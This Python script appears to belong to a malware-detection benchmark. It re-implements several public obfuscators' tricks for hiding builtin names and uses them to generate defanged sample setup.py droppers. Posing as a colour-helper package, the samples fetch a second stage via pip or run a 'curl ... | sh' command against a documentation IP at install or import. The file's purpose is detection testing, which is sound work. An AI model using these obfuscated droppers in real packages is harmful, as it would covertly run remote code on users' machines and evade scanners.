"""Re-implementations of public Python obfuscators' name-hiding transformations, used to
write the ``cn5-*`` tune samples (issue 16, class 1: builtins looked up by computed names).

    python benchmarks/obfuscators.py OUT_DIR   # writes one folder per sample

Nothing here runs the code it writes: every sample's payload (``pip.main`` of a second
stage from setup.py, a shell command at import) is only spelled, as a string, by the
transformation. The transformations follow the obfuscators' own source (read through the
stored public code index; cited per sample in its ``SAMPLE.toml``):

* **Hyperion** (billythegoat356/Hyperion, ``Hyperion._protect_built``, ``_protect``,
  ``CreateVars``, ``Shell``, ``Compress``): builtins fetched as
  ``getattr(__import__('snitliub'[::+-+-(-(+1))]), dir(...)[dir(...).index('cexe'[::...])])``,
  ``globals``/``locals``/``__import__`` re-bound through ``globals()['name'] = ...``,
  strings hidden as ``unhexlify(b'...').decode('8ftu'[::-1])``, names as ``\\x..`` escapes
  looked up in ``globals()``, chunks run through ``exec``/``eval(compile(...))`` fetched by
  those names.
* **a "dunder-only" obfuscator** (public, its docstring: "Outputs code with underscore-only
  names, dunder-only attributes, and no constants"): every string spelled out of
  ``str.__doc__``/``int.__doc__`` reached from ``__name__`` (``__name__.__class__.__doc__
  .__getitem__(n).__add__(...)``), builtins fetched with ``__builtins__.__getattribute__``,
  ``__builtins__.__dict__.__getitem__`` and ``__builtins__.__dir__().__getitem__(n)``,
  names cached with walrus assignments.
* **pyobfuscate.com**-style builtins aliasing: ``(lambda getattr: [setattr(__builtins__,
  k, v) for k, v in getattr.items()])({...})``: builtins re-published under new names and
  called by them (the obfuscator's first line, as its public deobfuscators match it).
* **the CJK ``str(oct)`` family** of issue 16, class 1: identifiers in CJK characters
  (Unicloak-style identifier renaming, xor-eax-eax-ret/unicloak, with CJK instead of
  look-alike letters) holding ``str(oct)``, ``str(hex)``, ``str(copyright)``, and names
  sliced out of them, then ``getattr(__builtins__, name)``; written the many ways the
  language allows (walrus, comprehensions, star-unpacking, class attributes, a decorator,
  nested functions, lambdas with defaults, ``vars``/``globals()['__builtins__']``/
  ``__dict__``, ``dir(__builtins__)`` indexing, ``map``, ``functools.reduce``).
"""

from __future__ import annotations

import argparse
import binascii
import builtins
import random
import sys
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path

STAGE_URL = "https://files.example/{name}-2.0.tar.gz"
SHELL = "curl -s http://198.51.100.{n}/s | sh"

#: The texts the CJK family slices names out of, as the interpreter prints them.
TEXTS = {"oct": str(oct), "hex": str(hex)}
try:
    TEXTS["copyright"] = str(builtins.copyright)
except AttributeError:  # python -S: no site, no copyright
    pass

CJK = "的一是不了人我在有他这中大来上国个到说们为子和你地出道也时年得就那要下以生会自着去之过家学对可她里后小么心多天而能好都然没日于起还发成事只作当想看文无开手十用主行方又如前所本见经头面公同三已老从动两长知民样现分将外但身些与高意进把法此实回二理美点月明其种声全工己话儿者向情部正名定女问力机给等几很业最间新什打便位因重被走电四第门相次东政海口使教西再平真听世气信北少关并内加化由却代军产入先山五太水万市眼体别处总才场师书比住员九笑性通目华报立马命张活难神数件安表原车白应路期叫死常提感金何更反合放做系计或司利受光王果亲界及今京务制解各任至清物台象记边共风战干接它许八特觉望直服毛林题建南度统色字请交爱让认算论百吃义科怎元社术结六功指思非流每青管夫连远资队跟带花快条院变联言权往展该领传近留红治决周保达办运武半候七必城父强步完革深区即求品士转量空甚众技轻程告江语英基派满式李息写呢识极令黄德收脸钱党倒未持音"


@dataclass(frozen=True)
class Sample:
    name: str
    tool: str
    technique: str
    files: dict[str, str]
    source: str


def _cjk_names(rng: random.Random, n: int) -> list[str]:
    out: list[str] = []
    while len(out) < n:
        name = "".join(rng.choice(CJK) for _ in range(rng.randint(2, 4)))
        if name not in out:
            out.append(name)
    return out


def _setup(name: str, body: str) -> str:
    return (
        "from setuptools import setup\n\n"
        + body
        + f'\nsetup(\n    name="{name}",\n    version="2.0.1",\n'
        '    description="Terminal colour helpers",\n'
        f'    py_modules=["{name.replace("-", "_")}"],\n)\n'
    )


# ------------------------------------------------------------------- the CJK str(oct) family


def _places(word: str, texts: dict[str, str], rng: random.Random) -> list[tuple[str, int] | str]:
    """Where each letter of ``word`` can be sliced from (a text and a place), or the
    letter itself when no text has it (``_`` is in none: the family writes it out)."""
    out: list[tuple[str, int] | str] = []
    for c in word:
        spots = [(t, i) for t, s in texts.items() for i, ch in enumerate(s) if ch == c]
        out.append(rng.choice(spots) if spots else c)
    return out


def _spell(word: str, var: dict[str, str], rng: random.Random) -> str:
    """``甲[3] + 乙[17] + "_"``: the letters of ``word`` sliced out of the texts."""
    parts: list[str] = []
    for p in _places(word, {k: TEXTS[k] for k in var}, rng):
        parts.append(f"{var[p[0]]}[{p[1]}]" if isinstance(p, tuple) else repr(p))
    return " + ".join(parts)


def _cjk_header(var: dict[str, str]) -> str:
    return "".join(f"{v} = str({k})\n" for k, v in var.items())


def cjk_family(name: str, style: str, seed: int, setup_py: bool = True) -> Sample:
    """One sample of the CJK family: ``style`` picks how the slicing is written."""
    rng = random.Random(seed)
    n = _cjk_names(rng, 12)
    kinds = ["oct", "hex", "copyright"] if "copyright" in TEXTS else ["oct", "hex"]
    var = {k: n[i] for i, k in enumerate(kinds)}
    url = STAGE_URL.format(name=name)
    imp, pip, main = n[4], n[5], n[6]
    ns = "__builtins__"

    def spell(word: str) -> str:
        return _spell(word, var, rng)

    head = _cjk_header(var)
    if style == "plain":
        body = (
            f"{imp} = getattr({ns}, {spell('__import__')})\n"
            f"{pip} = {imp}({spell('pip')})\n"
            f"getattr({pip}, {spell('main')})(['install', '--quiet', {url!r}])\n"
        )
    elif style == "walrus":
        body = (
            f"getattr(({pip} := getattr({ns}, {spell('__import__')})({spell('pip')})), "
            f"({main} := {spell('main')}))(['install', {url!r}])\n"
        )
    elif style == "index-list":
        # the places of the letters kept in lists, joined by a comprehension
        def picks(w: str) -> str:
            ps = _places(w, {k: TEXTS[k] for k in var}, rng)
            items = ", ".join(
                f"({var[p[0]]}, {p[1]})" if isinstance(p, tuple) else f"({p!r}, 0)" for p in ps
            )
            return f"''.join(文[位] for 文, 位 in [{items}])"

        body = (
            f"{imp} = getattr({ns}, {picks('__import__')})\n"
            f"getattr({imp}({picks('pip')}), {picks('main')})(['install', {url!r}])\n"
        )
    elif style == "star-unpack":
        body = (
            f"{n[7]}, *{n[8]} = {spell('__import__')}, {spell('pip')}, {spell('main')}\n"
            f"{pip} = getattr({ns}, {n[7]})({n[8]}[0])\n"
            f"getattr({pip}, {n[8]}[1])(['install', {url!r}])\n"
        )
    elif style == "class-attrs":
        body = (
            f"class {n[9]}:\n"
            f"    {n[7]} = {spell('__import__')}\n"
            f"    {n[8]} = {spell('pip')}\n"
            f"    {n[10]} = {spell('main')}\n"
            f"getattr(getattr({ns}, {n[9]}.{n[7]})({n[9]}.{n[8]}), {n[9]}.{n[10]})"
            f"(['install', {url!r}])\n"
        )
    elif style == "decorator":
        body = (
            f"def {n[9]}({n[10]}):\n"
            f"    return getattr(getattr({ns}, {spell('__import__')})({spell('pip')}), {spell('main')})\n"
            f"@{n[9]}\n"
            f"def {n[11]}():\n"
            f"    pass\n"
            f"{n[11]}(['install', {url!r}])\n"
        )
    elif style == "nested":
        body = (
            f"def {n[9]}():\n"
            f"    def {n[10]}({n[7]}):\n"
            f"        return getattr({ns}, {n[7]})\n"
            f"    return {n[10]}({spell('__import__')})({spell('pip')})\n"
            f"getattr({n[9]}(), {spell('main')})(['install', {url!r}])\n"
        )
    elif style == "lambda-default":
        body = (
            f"{n[9]} = lambda {n[7]}, {n[8]}={ns}: getattr({n[8]}, {n[7]})\n"
            f"getattr({n[9]}({spell('__import__')})({spell('pip')}), {spell('main')})"
            f"(['install', {url!r}])\n"
        )
    elif style == "vars":
        body = (
            f"{imp} = vars({ns})[{spell('__import__')}]\n"
            f"getattr({imp}({spell('pip')}), {spell('main')})(['install', {url!r}])\n"
        )
    elif style == "globals-builtins":
        body = (
            f"{n[9]} = globals()['__builtins__']\n"
            f"{n[10]} = {n[9]} if isinstance({n[9]}, dict) else {n[9]}.__dict__\n"
            f"{imp} = {n[10]}[{spell('__import__')}]\n"
            f"getattr({imp}({spell('pip')}), {spell('main')})(['install', {url!r}])\n"
        )
    elif style == "dir-index":
        body = (
            f"{n[9]} = dir({ns})\n"
            f"{imp} = getattr({ns}, {n[9]}[{n[9]}.index({spell('__import__')})])\n"
            f"getattr({imp}({spell('pip')}), {spell('main')})(['install', {url!r}])\n"
        )
    elif style == "map-lambda":

        def idx(w: str) -> str:
            ps = _places(w, {"copyright": TEXTS["copyright"]}, rng)
            assert all(isinstance(p, tuple) for p in ps), w
            return "[" + ", ".join(str(p[1]) for p in ps if isinstance(p, tuple)) + "]"

        body = (
            f"{n[9]} = lambda {n[7]}: ''.join(map(lambda {n[8]}: {var['copyright']}[{n[8]}], {n[7]}))\n"
            f"{imp} = getattr({ns}, '__' + {n[9]}({idx('import')}) + '__')\n"
            f"getattr({imp}({n[9]}({idx('pi')}) + 'p'), {spell('main')})(['install', {url!r}])\n"
        )
    elif style == "reduce":
        body = (
            "from functools import reduce\n"
            f"{n[9]} = reduce(lambda {n[7]}, {n[8]}: {n[7]} + {n[8]}, [{spell('__import__').replace(' + ', ', ')}])\n"
            f"getattr(getattr({ns}, {n[9]})({spell('pip')}), {spell('main')})(['install', {url!r}])\n"
        )
    elif style == "ifexp":
        body = (
            f"{n[9]} = {spell('__import__')} if len({var['hex']}) > 3 else {var['oct']}\n"
            f"getattr(getattr({ns}, {n[9]})({spell('pip')}), {spell('main')})(['install', {url!r}])\n"
        )
    elif style == "enumerate-loop":
        places = [TEXTS["copyright"].index(c) for c in "import"]
        body = (
            f"{n[9]} = ''\n"
            f"for {n[7]}, {n[8]} in enumerate({places}):\n"
            f"    {n[9]} += {var['copyright']}[{n[8]}]\n"
            f"{imp} = getattr({ns}, '__' + {n[9]} + '__')\n"
            f"getattr({imp}({spell('pip')}), {spell('main')})(['install', {url!r}])\n"
        )
    elif style == "generator":
        pieces = spell("__import__").replace(" + ", ", ")
        body = (
            f"def {n[9]}():\n"
            f"    for {n[7]} in [{pieces}]:\n"
            f"        yield {n[7]}\n"
            f"{imp} = getattr({ns}, ''.join({n[9]}()))\n"
            f"getattr({imp}({spell('pip')}), {spell('main')})(['install', {url!r}])\n"
        )
    elif style == "nested-try":
        body = (
            f"def {n[9]}():\n"
            f"    def {n[10]}():\n"
            f"        try:\n"
            f"            return {spell('__import__')}\n"
            f"        except IndexError:\n"
            f"            return ''\n"
            f"    return {n[10]}()\n"
            f"{imp} = getattr({ns}, {n[9]}())\n"
            f"getattr({imp}({spell('pip')}), {spell('main')})(['install', {url!r}])\n"
        )
    elif style == "starred":
        pieces = spell("__import__").replace(" + ", ", ")
        body = (
            f"{n[9]} = [{pieces}]\n"
            f"{imp} = getattr({ns}, ''.join([*{n[9]}]))\n"
            f"getattr({imp}({spell('pip')}), {spell('main')})(['install', {url!r}])\n"
        )
    elif style == "eval-getitem":
        # the builtin reached by evaluating its name, letters picked with __getitem__
        where = ", ".join(str(TEXTS["copyright"].index(c)) for c in "import")
        body = (
            f"{imp} = eval('__' + ''.join(map({var['copyright']}.__getitem__, [{where}])) + '__')\n"
            f"getattr({imp}({spell('pip')}), {spell('main')})(['install', {url!r}])\n"
        )
    elif style == "staticmethod":
        body = (
            f"class {n[9]}:\n"
            f"    @staticmethod\n"
            f"    def {n[10]}():\n"
            f"        return {spell('__import__')}\n"
            f"{imp} = getattr({ns}, {n[9]}.{n[10]}())\n"
            f"getattr({imp}({spell('pip')}), {spell('main')})(['install', {url!r}])\n"
        )
    elif style == "default-texts":
        inner = ", ".join(f"{v}=str({k})" for k, v in var.items())
        body = (
            f"def {n[9]}({inner}):\n"
            f"    return {spell('__import__')}\n"
            f"{imp} = getattr({ns}, {n[9]}())\n"
            f"getattr({imp}({spell('pip')}), {spell('main')})(['install', {url!r}])\n"
        )
    elif style == "nonlocal":
        pieces = spell("__import__").replace(" + ", ", ")
        body = (
            f"def {n[9]}():\n"
            f"    {n[7]} = ''\n"
            f"    def {n[10]}({n[8]}):\n"
            f"        nonlocal {n[7]}\n"
            f"        {n[7]} += {n[8]}\n"
            f"    for {n[8]} in [{pieces}]:\n"
            f"        {n[10]}({n[8]})\n"
            f"    return {n[7]}\n"
            f"{imp} = getattr({ns}, {n[9]}())\n"
            f"getattr({imp}({spell('pip')}), {spell('main')})(['install', {url!r}])\n"
        )
    elif style == "object-getattribute":
        body = (
            f"{imp} = object.__getattribute__({ns}, {spell('__import__')})\n"
            f"getattr({imp}({spell('pip')}), {spell('main')})(['install', {url!r}])\n"
        )
    elif style == "sys-copyright":
        # sys.copyright is the text str(copyright) prints
        body = (
            f"import sys\n{n[9]} = sys.copyright\n"
            f"{imp} = getattr({ns}, "
            + " + ".join(
                f"{n[9]}[{TEXTS['copyright'].index(c)}]" if c in TEXTS["copyright"] else repr(c)
                for c in "__import__"
            )
            + ")\n"
            f"getattr({imp}({spell('pip')}), {spell('main')})(['install', {url!r}])\n"
        )
    elif style == "other-interpreter":
        # places counted in another interpreter's text (one character further on, as a
        # longer first line would put them): here the slices spell other letters
        def shifted(word: str) -> str:
            return " + ".join(
                f"{var[p[0]]}[{p[1] + 1}]" if isinstance(p, tuple) else repr(p)
                for p in _places(word, {"copyright": TEXTS["copyright"]}, rng)
            )

        body = (
            f"{imp} = getattr({ns}, {shifted('__import__')})\n"
            f"getattr({imp}({shifted('pip')}), {shifted('main')})(['install', {url!r}])\n"
        )
    elif style == "exec-dropper":
        # import-time: exec fetched by a sliced name runs a shell command
        body = (
            f"{n[9]} = getattr({ns}, {spell('exec')})\n"
            f"{n[9]}({('import os; os.system(' + repr(SHELL.format(n=seed % 200 + 1)) + ')')!r})\n"
        )
    else:
        raise ValueError(style)
    code = head + body
    files = (
        {"setup.py": _setup(name, code)}
        if setup_py
        else {
            "setup.py": _setup(name, ""),
            f"{name.replace('-', '_')}/__init__.py": '"""Terminal colour helpers."""\n' + code,
        }
    )
    return Sample(
        name,
        "cjk-str-oct",
        f"CJK identifiers, names sliced from str(oct)/str(hex)/str(copyright), {style}",
        files,
        "issue 16, class 1 (the family's shape as the issue describes it)",
    )


# ------------------------------------------------------------------------------- Hyperion


def _rev(s: str) -> str:
    """Hyperion's ``_protect(var, basic=True)``: the text reversed, read back with a step
    spelled ``+-+-(-(+1))``."""
    return f"'{s[::-1]}'[::+-+-(-(+1))]"


def _hyperion_var(rng: random.Random) -> str:
    """Hyperion's ``_randvar``: a run of look-alike letters."""
    pool = rng.choice((("l", "I"), ("O", "0", "o"), ("M", "N"), ("x", "w"), ("J", "I", "L")))
    first = rng.choice([c for c in pool if not c.isdigit()])
    return first + "".join(rng.choice(pool) for _ in range(rng.randint(16, 24)))


def hyperion(name: str, seed: int, payload: str) -> Sample:
    """Hyperion's ``CreateVars``/``_protect_built``/``Shell`` layers around a payload:
    ``payload`` is ``"pip"`` (setup.py installs a second stage) or ``"shell"``."""
    rng = random.Random(seed)
    glb, loc, imp, vrs, gat, dr, exe, evl, cmp_, unhex = (_hyperion_var(rng) for _ in range(10))
    bi = _rev("builtins")

    def built(var: str, lib: str = "builtins") -> str:
        p = _rev(lib)
        return f"{gat}({imp}({p}),{dr}({imp}({p}))[{dr}({imp}({p})).index({_rev(var)})])"

    def protect(s: str) -> str:  # _protect(r=1)
        return f"{unhex}({binascii.hexlify(s.encode())!r}).decode({_rev('utf8')})"

    lines = [
        f"locals()['{glb}']=globals",
        f"{glb}()[{_rev(gat)}]=getattr",
        f"{glb}()[{_rev(dr)}]=dir",
        f"{glb}()['{loc}']=locals",
        f"{loc}()['{imp}']=__import__",
        f"{glb}()['{vrs}']={imp}({bi}).vars",
        f"{glb}()['{unhex}']={built('unhexlify', 'binascii')}",
        f"{vrs}()['{evl}']={built('eval')}",
        f"{glb}()['{cmp_}']={built('compile')}",
        f"{glb}()[{protect(exe)}]={built('exec')}",
    ]
    if payload == "pip":
        url = STAGE_URL.format(name=name)
        chunk = f"__import__('pip').main(['install','--quiet','{url}'])"
        lines.append(f"{glb}()[{protect(exe)}]({protect(chunk)})")
        body = "\n".join(lines) + "\n"
        files = {"setup.py": _setup(name, body)}
    else:
        chunk = f"import os\nos.system('{SHELL.format(n=seed % 200 + 1)}')"
        lines.append(
            f"{evl}({cmp_}({protect(chunk)},filename={protect(_hyperion_var(rng))},mode={protect('exec')}))"
        )
        body = "\n".join(lines) + "\n"
        files = {"setup.py": _setup(name, ""), f"{name.replace('-', '_')}/__init__.py": body}
    return Sample(
        name,
        "Hyperion",
        f"Hyperion layers (getattr/dir-index builtins, globals re-binding, unhexlify strings), {payload}",
        files,
        "billythegoat356/Hyperion (hyperion.py: CreateVars, _protect_built, _protect, Shell)",
    )


def hyperion_compress(name: str, seed: int) -> Sample:
    """Hyperion's ``Compress`` layer: lambdas over ``globals()['\\x65\\x76\\x61\\x6c']``,
    ``__import__('\\x7a\\x6c\\x69\\x62')``, ``vars()['decompress']`` and an ``exec`` reached
    by evaluating ``"__import__('builtins').exec"`` spelled in ``\\x`` escapes."""
    rng = random.Random(seed)
    a1, a2, k1, k2, k3, k4, k5 = (_hyperion_var(rng) for _ in range(7))

    def hx(s: str) -> str:
        return "".join(f"\\x{ord(c):02x}" for c in s)

    import zlib

    url = STAGE_URL.format(name=name)
    inner = f"__import__('pip').main(['install','{url}'])".encode()
    blob = zlib.compress(inner)
    ev = f"globals()['{hx('eval')}']"
    comp = f"globals()['{hx('compile')}']"
    st = f"globals()['{hx('str')}']"
    lambda1 = f"(lambda {a1}:{ev}({comp}({st}(\"{hx(ev)}({a1})\"),filename='{hx(_hyperion_var(rng))}',mode='{hx('eval')}')))"
    lambda2 = f"(lambda {a1}:{a1}(__import__('{hx('zlib')}')))"
    lambda3 = f"(lambda {a1}:{a1}['{hx('decompress')}'])"
    lambda4 = f"(lambda {a2},{a1}:{a2}({a1}))"
    lambda5 = f"(lambda:{lambda1}('{hx(chr(95) * 2 + 'import' + chr(95) * 2 + chr(40) + chr(39) + 'builtins' + chr(39) + chr(41) + '.exec')}'))"
    body = (
        "from builtins import *\n"
        f"{k1},{k2},{k3},{k4},{k5}={lambda1},{lambda2},{lambda3},{lambda4},{lambda5}\n"
        f"{k5}()({k4}({k3}({k2}({k1}('{hx('vars')}'))),{blob!r}))\n"
    )
    return Sample(
        name,
        "Hyperion",
        "Hyperion Compress layer: eval/compile/str fetched from globals() by \\x-escaped names, exec by an evaluated name",
        {"setup.py": _setup(name, body)},
        "billythegoat356/Hyperion (hyperion.py: Compress)",
    )


# --------------------------------------------------------------------- dunder-only obfuscator


def _doc_char(c: str) -> str:
    """The dunder-only obfuscator's ``gdci``/``gs``: a letter taken from a type's
    ``__doc__``, the type reached from ``__name__`` (a ``str``) without any constant."""
    reps = [
        (str, "__name__.__class__"),
        (int, "__name__.__len__().__class__"),
        (type, "__name__.__class__.__class__"),
    ]
    for typ, rep in reps:
        doc = typ.__doc__ or ""
        if (i := doc.find(c)) >= 0:
            return f"{rep}.__doc__.__getitem__({i})"
    raise ValueError(c)


def _doc_string(s: str) -> str:
    parts = [_doc_char(c) for c in s]
    out = parts[0]
    for p in parts[1:]:
        out = f"{out}.__add__({p})"
    return out


def dunder_only(name: str, how: str) -> Sample:
    """Names spelled from ``str.__doc__``/``int.__doc__`` and builtins fetched through
    ``__builtins__``'s dunders, as the dunder-only obfuscator writes them."""
    url = STAGE_URL.format(name=name)
    if how == "getattribute":
        imp = f"__builtins__.__getattribute__({_doc_string('__import__')})"
    elif how == "dict-getitem":
        imp = f"__builtins__.__dict__.__getitem__({_doc_string('__import__')})"
    elif how == "walrus":
        imp = f"(_:=__builtins__.__getattribute__(__:={_doc_string('__import__')}))"
    else:
        raise ValueError(how)
    body = (
        f"___ = {imp}({_doc_string('pip')})\n"
        f"___.__getattribute__({_doc_string('main')})(['install', {url!r}])\n"
    )
    return Sample(
        name,
        "dunder-only obfuscator",
        f"names from str.__doc__/int.__doc__ via __name__, builtins via {how}",
        {"setup.py": _setup(name, body)},
        "public dunder-only Python obfuscator ('Outputs code with underscore-only names, dunder-only attributes, and no constants')",
    )


# ------------------------------------------------------------------ pyobfuscate.com aliasing


def pyobfuscate_alias(name: str, seed: int) -> Sample:
    """pyobfuscate.com's opening line: builtins re-published under look-alike names with
    ``setattr(__builtins__, k, v)`` from a dict, then called by those names."""
    rng = random.Random(seed)
    names = ["".join(rng.choice("lI") for _ in range(rng.randint(8, 14))) for _ in range(4)]
    ex, imp, ga, _ = names
    url = STAGE_URL.format(name=name)
    body = (
        "pyobfuscate=(lambda getattr:[((lambda IIlII,IlIIl:setattr(__builtins__,IIlII,IlIIl))"
        "(IIlII,IlIIl)) for IIlII,IlIIl in getattr.items()]);"
        f"pyobfuscate({{'{ex}':exec,'{imp}':__import__,'{ga}':getattr}})\n"
        f"{ga}({imp}(chr(112)+chr(105)+chr(112)),chr(109)+chr(97)+chr(105)+chr(110))(['install',{url!r}])\n"
    )
    return Sample(
        name,
        "pyobfuscate.com",
        "builtins re-published with setattr(__builtins__) from a dict and called by new names",
        {"setup.py": _setup(name, body)},
        "pyobfuscate.com output's first line, as its public deobfuscators (KhanhNguyen9872/deobf_pyobfuscate.com, 0verp0wer/pyobfuscate.com-deobfuscator) match it",
    )


# ------------------------------------------------------------------------------------ all


CJK_STYLES = (
    "plain",
    "walrus",
    "index-list",
    "star-unpack",
    "class-attrs",
    "decorator",
    "nested",
    "lambda-default",
    "vars",
    "globals-builtins",
    "dir-index",
    "map-lambda",
    "reduce",
    "exec-dropper",
    "ifexp",
    "enumerate-loop",
    "generator",
    "nested-try",
    "starred",
    "eval-getitem",
    "staticmethod",
    "default-texts",
    "nonlocal",
    "object-getattribute",
    "sys-copyright",
    "other-interpreter",
)


def samples() -> list[Sample]:
    out: list[Sample] = []
    for i, style in enumerate(CJK_STYLES):
        out.append(
            cjk_family(f"cn5-cjk-{style}", style, 1000 + i, setup_py=style != "exec-dropper")
        )
    out.append(hyperion("cn5-hyperion-pip", 7, "pip"))
    out.append(hyperion("cn5-hyperion-shell", 8, "shell"))
    out.append(hyperion_compress("cn5-hyperion-compress", 9))
    for how in ("getattribute", "dict-getitem", "walrus"):
        out.append(dunder_only(f"cn5-dunder-{how}", how))
    out.append(pyobfuscate_alias("cn5-pyobfuscate-alias", 11))
    return out


TOML = """name = "{name}"
class = "computed-names"
year = 2026
family = "setup.py dropper, computed builtin ({tool})"
techniques = [{techniques}]
confidence = "low"  # how closely the files follow a published sample

[source]
description = "issue 16, class 1; generated by benchmarks/obfuscators.py, which re-implements the transformation of {tool}: {source}"

[reconstruction]
notes = "{technique}; the payload is only spelled (pip.main(['install', <second stage>]) from setup.py, or a shell command at import)."
defanged = "endpoints replaced by the same kind of endpoint with fake tokens or documentation IPs (RFC 5737); attacker-owned domains moved to the reserved .example TLD; no payload binaries; never executed"
"""


def write(out: Path, chosen: Callable[[Sample], bool] = lambda s: True) -> list[Sample]:
    written = []
    for s in samples():
        if not chosen(s):
            continue
        d = out / s.name
        for rel, text in s.files.items():
            (d / rel).parent.mkdir(parents=True, exist_ok=True)
            (d / rel).write_text(text, encoding="utf-8")

        def esc(text: str) -> str:  # a TOML basic string's content
            return text.replace("\\", "\\\\").replace('"', "'")

        techniques = ", ".join(f'"{esc(t.strip())}"' for t in s.technique.split(", "))
        (d / "SAMPLE.toml").write_text(
            TOML.format(
                name=s.name,
                tool=s.tool,
                techniques=techniques,
                source=esc(s.source),
                technique=esc(s.technique),
            ),
            encoding="utf-8",
        )
        written.append(s)
    return written


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=(__doc__ or "").splitlines()[0])
    parser.add_argument("out", type=Path, help="the folder to write one folder per sample in")
    args = parser.parse_args(argv)
    for s in write(args.out):
        print(s.name)
    return 0


if __name__ == "__main__":
    sys.exit(main())
